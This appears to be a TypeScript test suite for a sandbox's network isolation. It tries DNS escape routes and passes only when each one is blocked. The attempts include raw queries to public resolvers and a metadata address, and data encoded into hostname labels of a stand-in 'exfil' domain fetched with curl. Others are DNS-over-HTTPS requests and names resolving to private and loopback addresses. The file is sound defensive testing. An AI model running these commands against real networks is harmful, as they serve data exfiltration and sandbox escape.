import { attemptsOf, judged } from "../attempt.ts";

export const attempts = attemptsOf("dns", [
  {
    tried: "ask public and private name servers by UDP and TCP 53",
    must: "no packet leaves",
    async run({ attacker, python }) {
      const seen = await python(
        attacker,
        `
import socket
q = b'\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00\\x07example\\x03com\\x00\\x00\\x01\\x00\\x01'
for host in ('8.8.8.8', '1.1.1.1', '127.0.0.53', '10.0.0.2', '169.254.169.253'):
    for kind in (socket.SOCK_DGRAM, socket.SOCK_STREAM):
        s = socket.socket(socket.AF_INET, kind); s.settimeout(1)
        try:
            s.connect((host, 53)); s.send(q); s.recv(512); print('ANSWERED', host)
        except OSError as error: print(host, error)
`,
      );
      return judged(!seen.includes("ANSWERED"), seen.split("\n")[0] ?? "");
    },
  },
  {
    tried: "send data out in the labels of names to be looked up",
    must: "the sandbox has no resolver that would ask anybody",
    async run({ attacker, python }) {
      const seen = await python(
        attacker,
        `
import socket
for name in ('c2VjcmV0.exfil.example.com', 'example.com', 'localhost.localdomain.example.com'):
    try:
        socket.getaddrinfo(name, 80); print('RESOLVED', name)
    except OSError as error: print(error)
`,
      );
      return judged(!seen.includes("RESOLVED"), seen.split("\n")[0] ?? "");
    },
  },
  {
    tried: "have the proxy look up a name that no rule allows",
    must: "refused before the name is asked for",
    async run({ shell, create }) {
      const sandbox = await create({ network: { mode: "allow-list", rules: ["open.test"] } });
      const seen = await shell(sandbox, "curl -sS -m 5 http://c2VjcmV0.exfil.example.com/");
      await sandbox.kill();
      return judged(seen.includes("not on the sandbox's allow-list"), seen);
    },
  },
  {
    tried: "DNS over HTTPS under an allow-list",
    must: "its host is not on the list",
    async run({ shell, create }) {
      const sandbox = await create({ network: { mode: "allow-list", rules: ["open.test"] } });
      const seen = await shell(
        sandbox,
        "curl -sS -m 5 'https://dns.google/resolve?name=example.com'; curl -sS -m 5 'https://1.1.1.1/dns-query?name=example.com'",
      );
      await sandbox.kill();
      return judged(!seen.includes("Answer") && /403/.test(seen), seen);
    },
  },
  {
    tried: "names of one's own that point to private addresses, loopback and metadata",
    must: "the address it resolves to is judged, in each language",
    host: true,
    async run({ attacker, shell }) {
      const names = ["inside", "loop", "meta"].map((name) => `${name}.test`);
      const seen = await shell(
        attacker,
        `for n in ${names.join(" ")}; do curl -sS -m 5 http://$n/; curl -s -m 5 -p -o /dev/null -w '%{http_connect} ' http://$n/; curl -s -m 5 -o /dev/null --socks5-hostname 127.0.0.1:3128 http://$n/; echo "socks $?"; done`,
      );
      const told = names.filter((name) => new RegExp(`${name} is refused: \\S+ is not a public address`).test(seen));
      return judged(told.length === names.length && seen.match(/403 socks 97/g)?.length === names.length, seen);
    },
  },
]);
